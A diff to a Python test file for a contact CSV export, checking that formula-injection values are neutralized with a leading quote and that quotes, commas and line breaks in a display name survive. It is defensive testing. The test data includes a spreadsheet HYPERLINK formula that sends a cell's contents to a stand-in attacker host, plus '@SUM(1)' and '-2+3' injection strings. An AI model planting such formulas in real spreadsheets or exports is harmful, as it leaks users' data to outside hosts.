@@ -25,6 +25,7 @@ from .test_search import REFERENCE_QUERY
 
 EXPORTS = f"{API_PREFIX}/exports"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+NAME = 'Shannon "Shay", Jr.\nSecond line'
 
 
 def rows_of(body: bytes) -> list[dict[str, str]]:
@@ -57,7 +58,7 @@ async def test_export_filters_with_the_reference_query_and_neutralizes_formulas(
 ) -> None:
     await create_contact(client, tenant.headers, anna())
     shannon = anna(
-        personalInformation={"firstName": FORMULA, "lastName": "@SUM(1)", "displayName": "Shannon", "language": "FR"},
+        personalInformation={"firstName": FORMULA, "lastName": "@SUM(1)", "displayName": NAME, "language": "FR"},
         address={"city": "-2+3", "street": "Secret Lane 7"},
     )
     chosen = await create_contact(client, tenant.headers, shannon)
@@ -95,7 +96,7 @@ async def test_export_filters_with_the_reference_query_and_neutralizes_formulas(
     assert len(rows) == 1
     row = rows[0]
     assert (row["id"], row["createdAt"], row["contactTypeId"]) == (chosen["id"], chosen["createdAt"], "1")
-    assert row["personalInformation.displayName"] == "Shannon"
+    assert row["personalInformation.displayName"] == NAME  # quotes, comma and line break survive
     assert row["personalInformation.firstName"] == "'" + FORMULA
     assert row["personalInformation.lastName"] == "'@SUM(1)"
     assert row["communication.mobile"] == "+41791234567"  # a number cannot run anything: left usable
